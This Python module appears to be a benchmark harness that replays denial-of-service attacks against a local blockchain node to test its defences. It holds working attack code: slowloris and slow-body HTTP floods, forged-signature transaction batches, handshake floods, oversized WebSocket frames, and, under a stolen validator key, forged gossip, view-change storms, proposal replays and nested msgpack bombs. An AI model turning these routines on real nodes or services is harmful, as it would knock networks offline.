"""The attacks replayed by benchmarks/attack.py against one node of a live cluster.

Every attack is an async function `(target, until) -> dict`: it stops at `until` (monotonic
seconds) or at its bound on work, whichever comes first, closes every socket it opened, and
returns counts of what it sent and how the node answered. `run_attack` runs one in a process of
its own, so that the attacker's work never delays the honest client's event loop (it still
takes the machine's cores). Attacking clients connect from loopback addresses 127.0.0.2 and up,
so that the node's per-address bounds never charge the honest clients on 127.0.0.1 for them.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import itertools
import os
import time
from collections import Counter
from dataclasses import dataclass, field
from multiprocessing.connection import Connection
from typing import Awaitable, Callable, Coroutine, Iterable, Iterator

import aiohttp

from consensus.messages import PAYLOAD, Envelope, Proposal, ViewChange, _spliced_signing_bytes
from ledger.blocks import Block, CommitSig, Header
from ledger.encoding import pack, pack_array_header
from ledger.keys import PrivateKey
from ledger.transactions import ContractCall, Transaction, Transfer
from pownode import transport
from pownode.tx_reactor import TX_BATCH
from pownode.peer_set import CONSENSUS, TXS

BATCH_TXS = 10_000  # the API's largest batch
BAD_SIG_CLIENTS = 6
BAD_SIG_STREAMS = 4  # requests in flight per client address
BAD_SIG_REQUESTS = 500  # per stream
SLOWLORIS_CONNECTIONS = 3_000
SLOWLORIS_ADDRESSES = 59  # 127.0.0.2 .. 127.0.0.60: about 51 each, under 64 per client
BIG_BODY_CONNECTIONS = 400
BIG_BODY_ADDRESSES = 20  # 127.0.0.2 .. 127.0.0.21: 20 each
BIG_BODY_BYTES = 16 * 1024 * 1024  # the API's largest body: declared, never sent
BIG_BODY_CHUNK = 1024
DRIP_S = 1.0  # slowloris and slow bodies: one header line or body chunk this often
HANDSHAKE_SLOTS = 1_000
HANDSHAKE_ADDRESSES = 249  # 127.0.0.2 .. 127.0.0.250
HANDSHAKE_HOLD_S = 30.0  # a handshake connection waits this long for the node to close it
REOPEN_PAUSE_S = 0.5  # a slot whose connection ended waits this long to open another
MAX_OPENS = 30_000  # connections one attack opens in all
CONNECT_TIMEOUT_S = 5.0
GOSSIP_BATCH = 2_000  # transactions per gossip frame, as an honest node sends them
GOSSIP_FRAMES = 500
GOSSIP_PAUSE_S = 0.05
VIEW_CHANGES = 60_000
VIEW_CHANGES_PER_S = 4_000
VIEW_CHANGE_BURST = 200
REPLAY_BLOCK_TXS = 5_000  # transfers in the replayed proposal's block (some 700 KB)
REPLAY_PER_S = 20
REPLAY_FRAMES = 1_200
NESTED_FRAME_BYTES = 4 * 1024 * 1024
NESTED_PER_S = 2
NESTED_FRAMES = 120
HOSTILE_VC_TXS = 40  # nested-list calls in a forged certificate's block: 0.67 MB, past max_block_memory at the 32nd
HOSTILE_VC_PER_S = 10
HOSTILE_VC_FRAMES = 300
IMPERSONATE_TIMEOUT_S = 15.0  # the attacked node redials a lost peer within its 5 s backoff
REDIAL_WAIT_S = 3.0
READ_FLOOD_CONNECTIONS = 256
READ_FLOOD_ADDRESSES = 8  # 127.0.0.2 .. 127.0.0.9: 32 each, under 64 per client
READ_FLOOD_PIPELINE = 16  # requests written ahead of their answers on one connection
READ_FLOOD_REQUESTS = 400_000  # in all
READ_FLOOD_PATHS = ("/dashboard/app.js", "/openapi.json", "/status", "/election", "/validators", "/metrics")
WS_DRIP_CONNECTIONS = 256
WS_DRIP_ADDRESSES = 8
WS_DRIP_FRAME = 4_000_000  # a frame's declared size: aiohttp's default bound was 4 MiB
WS_DRIP_CHUNK = 256 * 1024
HEIGHT_POLL_S = 0.5  # the view-change storm follows the attacked node's height this often  # after a drop: a node that does not take us back within this has banned us
JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True)
class Target:
    """The attacked node, and the keys an attacker holds (as seeds, to cross into the attack's
    process): a funded sender whose signatures it forges, and the impostor's validator key
    (node3's, whose own process is stopped first)."""

    chain_id: str
    api: tuple[str, int]
    p2p: tuple[str, int]
    node_key: bytes
    member_keys: tuple[bytes, ...]
    impostor_seed: bytes
    impostor_p2p: tuple[str, int]  # where the attacked node dials the impostor's key
    forger_seed: bytes

    @property
    def impostor(self) -> PrivateKey:
        return PrivateKey(self.impostor_seed)

    @property
    def forger(self) -> PrivateKey:
        return PrivateKey(self.forger_seed)


@dataclass
class Tally:
    """Connections an attack opened and how each ended (the node's status line, EOF, reset)."""

    opened: int = 0
    failed: int = 0  # could not connect
    held: int = 0
    max_held: int = 0
    ended: Counter[str] = field(default_factory=Counter)

    def open(self) -> None:
        self.opened += 1
        self.held += 1
        self.max_held = max(self.max_held, self.held)

    def close(self, how: str) -> None:
        self.held -= 1
        self.ended[how] += 1

    def summary(self) -> dict[str, object]:
        return {"opened": self.opened, "connect_failed": self.failed, "max_held": self.max_held,
                "ended": dict(self.ended)}


class Forgery:
    """Transfers from a funded sender whose signatures do not verify, each one different (the
    node remembers refused hashes) and each costing a full verification: R is a real signature's
    point and only the low bytes of s vary, so s stays canonical."""

    def __init__(self, key: PrivateKey, chain_id: str) -> None:
        tx = Transaction.create(key, chain_id, 0, Transfer(key.address, 1), fee=1)
        assert tx.encoded.endswith(tx.signature), "the signature is the last field"
        self._head = tx.encoded[:-64] + tx.signature[:32]
        self._tail = tx.signature[40:]
        self._next = 1
        self.made = 0

    def take(self, count: int) -> list[bytes]:
        start, self._next = self._next, self._next + count
        self.made += count
        return [self._head + n.to_bytes(8, "little") + self._tail for n in range(start, start + count)]


def local(i: int) -> str:
    """The i-th attacking source address."""
    return f"127.0.0.{2 + i}"


async def run_until(until: float, coros: Iterable[Coroutine]) -> None:
    """Run the coroutines together, cancel whatever still runs at `until`, and raise the first
    error one of them ended with. (Their loops look at `until` too: Python 3.11's `wait_for`
    can swallow a cancellation that races with its result.)"""
    tasks = [asyncio.ensure_future(c) for c in coros]
    if tasks:
        await asyncio.wait(tasks, timeout=max(0.0, until - time.monotonic()))
    for task in tasks:
        task.cancel()
    outcomes = await asyncio.gather(*tasks, return_exceptions=True)
    errors = [o for o in outcomes if isinstance(o, Exception)]
    if errors:
        raise errors[0]


async def _connect(address: tuple[str, int], source: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    try:
        return await asyncio.wait_for(asyncio.open_connection(*address, local_addr=(source, 0)), CONNECT_TIMEOUT_S)
    except (OSError, asyncio.TimeoutError):
        return None


async def _answer_within(reader: asyncio.StreamReader, seconds: float) -> str | None:
    """How the node answered within `seconds`: its HTTP status code, "eof", "data" (not HTTP),
    or None while it is still waiting for us."""
    try:
        data = await asyncio.wait_for(reader.read(256), seconds)
    except asyncio.TimeoutError:
        return None
    if not data:
        return "eof"
    parts = data.split(b" ", 2)
    return parts[1].decode(errors="replace") if data.startswith(b"HTTP/") and len(parts) > 1 else "data"


async def _drip(address: tuple[str, int], source: str, head: bytes, piece: bytes, tally: Tally,
                until: float) -> None:
    """Open connections one after another from `source`; on each, send `head`, then `piece`
    every DRIP_S until the node answers or closes it."""
    while tally.opened < MAX_OPENS and time.monotonic() < until:
        conn = await _connect(address, source)
        if conn is None:
            tally.failed += 1
            await asyncio.sleep(DRIP_S)
            continue
        reader, writer = conn
        tally.open()
        how = "reset"
        try:
            writer.write(head)
            answer = None
            while answer is None and time.monotonic() < until:
                writer.write(piece)
                await writer.drain()
                answer = await _answer_within(reader, DRIP_S)
            how = answer or "held-to-end"
        except (ConnectionError, OSError):
            pass
        finally:
            tally.close(how)
            writer.close()
        await asyncio.sleep(REOPEN_PAUSE_S)


async def _sleep_until(when: float) -> None:
    await asyncio.sleep(max(0.0, when - time.monotonic()))


def _tx_json(raws: list[bytes]) -> bytes:
    return ('{"txs":["' + '","'.join(r.hex() for r in raws) + '"]}').encode()


async def bad_signatures(target: Target, until: float) -> dict[str, object]:
    """BAD_SIG_CLIENTS addresses POST batches of 10,000 forged transfers, as fast as the node
    allows: a 429 or 503 is honoured by waiting its Retry-After."""
    forgery = Forgery(target.forger, target.chain_id)
    answers: Counter[str] = Counter()
    url = f"http://{target.api[0]}:{target.api[1]}/txs"

    async def stream(session: aiohttp.ClientSession) -> None:
        for _ in range(BAD_SIG_REQUESTS):
            body = _tx_json(forgery.take(BATCH_TXS))
            try:
                async with session.post(url, data=body, headers=JSON) as response:
                    await response.read()
                    answers[str(response.status)] += 1
                    if response.status in (429, 503):
                        retry = float(response.headers.get("Retry-After", "1"))
                        await _sleep_until(min(until, time.monotonic() + retry))
            except (aiohttp.ClientError, asyncio.TimeoutError) as exc:
                answers[type(exc).__name__] += 1
                await asyncio.sleep(0.1)

    sessions = [aiohttp.ClientSession(connector=aiohttp.TCPConnector(local_addr=(local(i), 0), limit=BAD_SIG_STREAMS),
                                      timeout=aiohttp.ClientTimeout(total=60))
                for i in range(BAD_SIG_CLIENTS)]
    try:
        await run_until(until, (stream(s) for s in sessions for _ in range(BAD_SIG_STREAMS)))
    finally:
        for session in sessions:
            await session.close()
    return {"clients": BAD_SIG_CLIENTS, "forged_built": forgery.made, "answers": dict(answers)}


async def slowloris(target: Target, until: float) -> dict[str, object]:
    """SLOWLORIS_CONNECTIONS connections that send a request line and one header line per
    DRIP_S, never finishing the headers; each reopens when the node closes it."""
    tally = Tally()
    head = b"POST /txs HTTP/1.1\r\nHost: node\r\n"
    await run_until(until, (_drip(target.api, local(i % SLOWLORIS_ADDRESSES), head, b"X-Drip: 1\r\n", tally, until)
                            for i in range(SLOWLORIS_CONNECTIONS)))
    return {"connections": SLOWLORIS_CONNECTIONS, "addresses": SLOWLORIS_ADDRESSES, **tally.summary()}


async def big_bodies(target: Target, until: float) -> dict[str, object]:
    """BIG_BODY_CONNECTIONS POSTs that declare a 16 MiB body and send BIG_BODY_CHUNK bytes of it
    per DRIP_S; each reopens when the node answers or closes it."""
    tally = Tally()
    head = (b"POST /txs HTTP/1.1\r\nHost: node\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\n\r\n{\"txs\": [\"" % BIG_BODY_BYTES)
    await run_until(until, (_drip(target.api, local(i % BIG_BODY_ADDRESSES), head, b"0" * BIG_BODY_CHUNK, tally, until)
                            for i in range(BIG_BODY_CONNECTIONS)))
    return {"connections": BIG_BODY_CONNECTIONS, "addresses": BIG_BODY_ADDRESSES, **tally.summary()}


async def read_flood(target: Target, until: float) -> dict[str, object]:
    """READ_FLOOD_CONNECTIONS keep-alive connections, each keeping READ_FLOOD_PIPELINE GETs of
    READ_FLOOD_PATHS (none paced, the dearest 0.3-0.5 ms of the node's CPU each) ahead of the
    answers it reads, connecting again whenever the node closes one, until READ_FLOOD_REQUESTS
    in all."""
    requests = [f"GET {path} HTTP/1.1\r\nHost: node\r\n\r\n".encode() for path in READ_FLOOD_PATHS]
    sent, answered, tally = [0], [0], Tally()

    async def connections(source: str) -> None:
        while tally.opened < MAX_OPENS and sent[0] < READ_FLOOD_REQUESTS and time.monotonic() < until:
            await connection(source)

    async def connection(source: str) -> None:
        conn = await _connect(target.api, source)
        if conn is None:
            tally.failed += 1
            await asyncio.sleep(REOPEN_PAUSE_S)
            return
        reader, writer = conn
        tally.open()
        how, ahead, seen = "held-to-end", 0, b""
        try:
            while sent[0] < READ_FLOOD_REQUESTS and time.monotonic() < until:
                while ahead < READ_FLOOD_PIPELINE:
                    writer.write(requests[sent[0] % len(requests)])
                    sent[0] += 1
                    ahead += 1
                await writer.drain()
                data = await reader.read(256 * 1024)
                if not data:
                    how = "eof"
                    break
                seen = seen[-16:] + data  # a status line may straddle two reads
                done = seen.count(b"HTTP/1.1 ")
                seen = seen[seen.rfind(b"HTTP/1.1 ") + 1:] if done else seen
                ahead -= done
                answered[0] += done
        except (ConnectionError, OSError):
            how = "reset"
        finally:
            tally.close(how)
            writer.close()

    await run_until(until, (connections(local(i % READ_FLOOD_ADDRESSES)) for i in range(READ_FLOOD_CONNECTIONS)))
    return {"connections": READ_FLOOD_CONNECTIONS, "requests_sent": sent[0], "answers": answered[0], **tally.summary()}


async def ws_drip(target: Target, until: float) -> dict[str, object]:
    """WS_DRIP_CONNECTIONS WebSocket subscribers, each sending a frame that declares
    WS_DRIP_FRAME bytes and all of it but its last byte, then holding it open."""
    tally = Tally()
    upgrade = (b"GET /ws HTTP/1.1\r\nHost: node\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
    frame_head = bytes([0x81, 0xFF]) + WS_DRIP_FRAME.to_bytes(8, "big") + bytes(4)

    async def subscriber(source: str) -> None:
        conn = await _connect(target.api, source)
        if conn is None:
            tally.failed += 1
            return
        reader, writer = conn
        tally.open()
        how = "held-to-end"
        try:
            writer.write(upgrade + frame_head)
            left = WS_DRIP_FRAME - 1
            while left > 0 and time.monotonic() < until:
                piece = min(left, WS_DRIP_CHUNK)
                writer.write(bytes(piece))
                left -= piece
                await writer.drain()
            while time.monotonic() < until:  # hold it, reading (and dropping) the stream
                if not await reader.read(65536):
                    how = "eof"
                    break
        except (ConnectionError, OSError):
            how = "reset"
        finally:
            tally.close(how)
            writer.close()

    await run_until(until, (subscriber(local(i % WS_DRIP_ADDRESSES)) for i in range(WS_DRIP_CONNECTIONS)))
    return {"connections": WS_DRIP_CONNECTIONS, "frame_bytes": WS_DRIP_FRAME, **tally.summary()}


def _hellos(target: Target) -> dict[str, bytes]:
    """What a handshake slot sends first: nothing, random bytes, or a well-formed hello that
    presents the key of a member the node lets dial it (the node then draws an ephemeral key
    and signs before it learns the caller cannot finish), when there is such a member."""
    hello_size = len(transport.MAGIC) + 96
    hellos = {"silent": b"", "garbage": os.urandom(hello_size)}
    dialers = [k for k in target.member_keys if k < target.node_key]
    if dialers:
        hellos["member-hello"] = (transport.MAGIC + hashlib.sha256(target.chain_id.encode()).digest()
                                  + dialers[0] + os.urandom(32))
    return hellos


async def _handshake_slot(target: Target, source: str, hello: bytes, tally: Tally, until: float) -> None:
    """Open connections one after another from `source`, send `hello` on each and hold it until
    the node closes it (or HANDSHAKE_HOLD_S)."""
    while tally.opened < MAX_OPENS and time.monotonic() < until:
        conn = await _connect(target.p2p, source)
        if conn is None:
            tally.failed += 1
        else:
            reader, writer = conn
            tally.open()
            how = "held"
            try:
                writer.write(hello)
                data = await asyncio.wait_for(reader.read(4096), min(HANDSHAKE_HOLD_S, until - time.monotonic()))
                how = "signed-hello" if data else "closed"
            except asyncio.TimeoutError:
                pass
            except (ConnectionError, OSError):
                how = "reset"
            finally:
                tally.close(how)
                writer.close()
        await asyncio.sleep(REOPEN_PAUSE_S)


async def handshake_flood(target: Target, until: float) -> dict[str, object]:
    """HANDSHAKE_SLOTS connections to the node's peer port, sending nothing, garbage or a
    member's hello (in turn by slot); each reopens when the node closes it."""
    tally = Tally()
    hellos = list(_hellos(target).values())
    await run_until(until, (_handshake_slot(target, local(i % HANDSHAKE_ADDRESSES), hellos[i % len(hellos)], tally, until)
                            for i in range(HANDSHAKE_SLOTS)))
    return {"slots": HANDSHAKE_SLOTS, "hellos": list(_hellos(target)), **tally.summary()}


async def impersonate(target: Target, timeout_s: float) -> transport.SecureChannel:
    """An authenticated link to the attacked node under the impostor's key. Of a pair of
    members the smaller key dials: so either dial the node, or listen at the impostor's peer
    address and answer the node's dial."""
    expect = target.node_key
    if target.impostor.public_key < expect:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(*target.p2p), timeout_s)
        return await transport.initiate(reader, writer, target.chain_id, target.impostor, expect.__eq__, expect)
    linked: asyncio.Future[transport.SecureChannel] = asyncio.get_running_loop().create_future()

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            channel = await transport.respond(reader, writer, target.chain_id, target.impostor, expect.__eq__)
        except (transport.HandshakeError, asyncio.IncompleteReadError, asyncio.TimeoutError, ConnectionError):
            writer.close()
            return
        if linked.done():
            channel.close()
        else:
            linked.set_result(channel)

    server = await asyncio.start_server(answer, *target.impostor_p2p)
    try:
        return await asyncio.wait_for(linked, timeout_s)
    finally:
        server.close()


async def _discard(channel: transport.SecureChannel) -> None:
    """Read and drop what the node sends (keepalives, gossip, votes) until it hangs up."""
    with contextlib.suppress(transport.FrameError, asyncio.IncompleteReadError, ConnectionError):
        while True:
            await channel.recv()


async def _refused_again(target: Target) -> bool:
    """Whether the node refuses the impostor's key now (refuses its handshake, or never redials)."""
    try:
        channel = await impersonate(target, REDIAL_WAIT_S)
    except (transport.HandshakeError, asyncio.IncompleteReadError, asyncio.TimeoutError, ConnectionError, OSError):
        return True
    channel.close()
    return False


async def _flood_link(target: Target, until: float, frames: Iterable[bytes], burst: int,
                      pause_s: float) -> dict[str, object]:
    """Send the frames on an impersonated link, pausing `pause_s` after every `burst`, until
    they run out, `until`, or the node drops the link; then see whether it takes the impostor back."""
    channel = await impersonate(target, IMPERSONATE_TIMEOUT_S)
    reading = asyncio.create_task(_discard(channel))
    started = time.monotonic()
    sent = 0
    try:
        for frame in frames:
            if reading.done() or time.monotonic() >= until:
                break
            await channel.send(frame)
            sent += 1
            if sent % burst == 0:
                await asyncio.sleep(pause_s)
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(asyncio.shield(reading), max(0.0, until - time.monotonic()))
    except (transport.FrameError, ConnectionError):
        await asyncio.sleep(0.1)  # the reader sees the hang-up too
    dropped_after = time.monotonic() - started if reading.done() else None
    channel.close()
    reading.cancel()
    return {"frames_sent": sent, "dropped": dropped_after is not None,
            "dropped_after_s": None if dropped_after is None else round(dropped_after, 2),
            "refused_afterwards": await _refused_again(target)}


async def forged_gossip(target: Target, until: float) -> dict[str, object]:
    """As the impostor, gossip frames of GOSSIP_BATCH forged transactions: no honest peer relays
    one, so the node should drop and ban the link."""
    forgery = Forgery(target.forger, target.chain_id)
    frames = (bytes([TXS]) + pack(TX_BATCH.wire(forgery.take(GOSSIP_BATCH))) for _ in range(GOSSIP_FRAMES))
    result = await _flood_link(target, until, frames, 1, GOSSIP_PAUSE_S)
    return {"forged_sent": result["frames_sent"] * GOSSIP_BATCH, **result}


async def _follow_height(api: tuple[str, int], height: list[int], until: float) -> None:
    """Keep height[0] at the attacked node's height."""
    url = f"http://{api[0]}:{api[1]}/status"
    connector = aiohttp.TCPConnector(local_addr=(local(0), 0))
    async with aiohttp.ClientSession(connector=connector, timeout=aiohttp.ClientTimeout(total=2)) as session:
        for _ in range(int((until - time.monotonic()) / HEIGHT_POLL_S) + 1):
            with contextlib.suppress(aiohttp.ClientError, asyncio.TimeoutError, ValueError):
                async with session.get(url) as response:
                    height[0] = (await response.json())["height"]
            await asyncio.sleep(HEIGHT_POLL_S)


async def view_change_storm(target: Target, until: float) -> dict[str, object]:
    """As the impostor, sign and send view changes for ever higher views at the node's current
    height, VIEW_CHANGES_PER_S of them: each costs the node a verification, and one member's
    requests alone must move no honest node to another view."""
    key, height = target.impostor, [1]
    following = asyncio.create_task(_follow_height(target.api, height, until))
    frames = (bytes([CONSENSUS]) + Envelope.seal(key, target.chain_id, ViewChange(height[0], view, ())).encoded
              for view in range(1, VIEW_CHANGES + 1))
    try:
        result = await _flood_link(target, until, frames, VIEW_CHANGE_BURST, VIEW_CHANGE_BURST / VIEW_CHANGES_PER_S)
    finally:
        following.cancel()
    return {"view_changes_sent": result["frames_sent"], **result}


def _old_proposal(target: Target) -> bytes:
    """A signed proposal, for height 1 (long committed), of a block of REPLAY_BLOCK_TXS forged
    transfers: some 700 KB that decode strictly, and that no node may act on."""
    txs = tuple(Transaction.decode(raw) for raw in Forgery(target.forger, target.chain_id).take(REPLAY_BLOCK_TXS))
    header = Header(target.chain_id, 1, bytes(32), 0, target.impostor.public_key, bytes(32), len(txs), bytes(32),
                    bytes(32), bytes(32), b"", b"")
    return Envelope.seal(target.impostor, target.chain_id, Proposal(1, 0, Block(header, txs))).encoded


async def large_replay(target: Target, until: float) -> dict[str, object]:
    """As the impostor, send one block-sized proposal for a committed height again and again,
    REPLAY_PER_S copies a second: each copy is the same bytes, and must not cost the node a
    decode of the block."""
    frame = bytes([CONSENSUS]) + _old_proposal(target)
    result = await _flood_link(target, until, (frame for _ in range(REPLAY_FRAMES)), 1, 1 / REPLAY_PER_S)
    return {"frame_bytes": len(frame), **result}


def _nested_arrays(size: int) -> bytes:
    """About `size` bytes of msgpack: an array of arrays of 20,000 empty arrays, one byte each."""
    inner = b"\xdc" + (20_000).to_bytes(2, "big") + b"\x90" * 20_000
    outer = max(1, size // len(inner))
    return b"\xdd" + outer.to_bytes(4, "big") + inner * outer


async def nested_gossip(target: Target, until: float) -> dict[str, object]:
    """As the impostor, gossip frames of NESTED_FRAME_BYTES of nested empty arrays, NESTED_PER_S
    a second: malformed, so nobody is charged for forged transactions, and each must cost the
    node no more memory than its bytes."""
    frame = bytes([TXS]) + _nested_arrays(NESTED_FRAME_BYTES)
    result = await _flood_link(target, until, (frame for _ in range(NESTED_FRAMES)), 1, 1 / NESTED_PER_S)
    return {"frame_bytes": len(frame), **result}


def _hostile_view_changes(target: Target, height: list[int]) -> Iterator[bytes]:
    """Signed view changes of the impostor for two heights above the node's (polled, so it is
    the current height or one of the next two when it arrives), for view after view, each
    carrying a made-up prepared certificate of a block of HOSTILE_VC_TXS nested-list calls (64
    lists of 256 empty lists each, 16 KiB that hold some 2 MB decoded): the chain's
    max_block_memory refuses the block only at its 32nd call. Their signature bytes differ in
    every message, so no table of decoded transactions holds them. The bytes are spliced (a view
    change's canonical encoding written out), so making one costs the attacker a signature, not
    a decode."""
    key, cid = target.impostor, target.chain_id
    args = tuple(tuple(() for _ in range(256)) for _ in range(64))
    call = Transaction.create(target.forger, cid, 0, ContractCall(bytes(20), "f", args, 10_000, 0), fee=1).encoded
    sigs = pack([CommitSig(m, bytes(64)).to_wire() for m in target.member_keys[:3]])
    tag = pack(PAYLOAD.tag_of_cls(ViewChange))
    for n in itertools.count(1):
        txs = b"".join(call[:-8] + (n * HOSTILE_VC_TXS + i).to_bytes(8, "big") for i in range(HOSTILE_VC_TXS))
        header = Header(cid, height[0] + 2, bytes(32), 0, key.public_key, bytes(32), HOSTILE_VC_TXS, bytes(32),
                        bytes(32), bytes(32), b"", b"").encoded
        block = b"\x92" + header + pack_array_header(HOSTILE_VC_TXS) + txs
        cert = b"\x93" + pack(0) + block + sigs
        payload = b"\x92" + tag + b"\x93" + pack(height[0] + 2) + pack(n) + b"\x91" + cert
        signature = key.sign(_spliced_signing_bytes(cid, key.public_key, payload))
        yield bytes([CONSENSUS]) + b"\x93" + pack(key.public_key) + payload + pack(signature)


async def hostile_view_changes(target: Target, until: float) -> dict[str, object]:
    """As the impostor, HOSTILE_VC_PER_S view changes a second whose made-up certificates carry
    blocks of nested-list calls (`_hostile_view_changes`): a forged certificate must be refused
    before its block is decoded, or each message costs the node some 0.5 s of CPU."""
    height = [1]
    following = asyncio.create_task(_follow_height(target.api, height, until))
    frames = itertools.islice(_hostile_view_changes(target, height), HOSTILE_VC_FRAMES)
    try:
        result = await _flood_link(target, until, frames, 1, 1 / HOSTILE_VC_PER_S)
    finally:
        following.cancel()
    return {"view_changes_sent": result["frames_sent"], **result}


@dataclass(frozen=True)
class Attack:
    run: Callable[[Target, float], Awaitable[dict[str, object]]]
    impostor: bool  # node3's process is stopped and its key used by the attacker


ATTACKS = {
    "http-bad-signatures": Attack(bad_signatures, False),
    "http-slowloris": Attack(slowloris, False),
    "http-big-bodies": Attack(big_bodies, False),
    "http-read-flood": Attack(read_flood, False),
    "ws-drip": Attack(ws_drip, False),
    "handshake-flood": Attack(handshake_flood, False),
    "forged-gossip": Attack(forged_gossip, True),
    "view-change-storm": Attack(view_change_storm, True),
    "large-replay": Attack(large_replay, True),
    "nested-gossip": Attack(nested_gossip, True),
    "hostile-view-changes": Attack(hostile_view_changes, True),
}


def run_attack(name: str, target: Target, start: float, until: float, out: Connection) -> None:
    """A process's whole work: wait for `start`, run the attack, send back its result (or its
    error, as a result)."""
    async def attack() -> dict[str, object]:
        await _sleep_until(start)
        return await ATTACKS[name].run(target, until)

    try:
        out.send(asyncio.run(attack()))
    except Exception as exc:  # reported as this attack's result; the benchmark goes on
        out.send({"error": f"{type(exc).__name__}: {exc}"})
